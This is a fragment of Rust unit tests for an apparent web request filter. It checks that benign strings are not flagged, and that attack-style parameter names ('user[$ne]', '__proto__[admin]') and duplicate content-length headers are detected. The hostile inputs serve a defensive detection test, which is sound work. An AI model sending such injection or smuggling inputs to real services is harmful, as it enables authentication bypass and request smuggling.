            r#"{% $num_views|string_format:"%d" %} vues"#,
            "FHFUIVJ[I['=\\]=-]L;/...",
            r#""LIKE" STAMP"#,
            "the file (pdf)",
            r#"junk <a href="../">foo.com</a>"#,
            "1; exec will create the case 7",
            "done; time flies",
        ] {
            let got = classes("q", value);
            assert!(got.is_empty(), "{value}: {got:?}");
        }
    }

    #[test]
    fn names_and_protocol() {
        let rules = Rules::new();
        let mut got = Vec::new();
        rules.scan_name("user[$ne]", &mut |c, _, _| got.push(c));
        rules.scan_name("__proto__[admin]", &mut |c, _, _| got.push(c));
        assert_eq!(got, vec!["nosqli", "code_injection"]);
        let headers = [("content-length", "5"), ("content-length", "6")];
        assert!(protocol_anomaly(headers.iter().copied()).is_some());
        let headers = [("host", "a"), ("content-length", "5")];
        assert!(protocol_anomaly(headers.iter().copied()).is_none());
    }
}
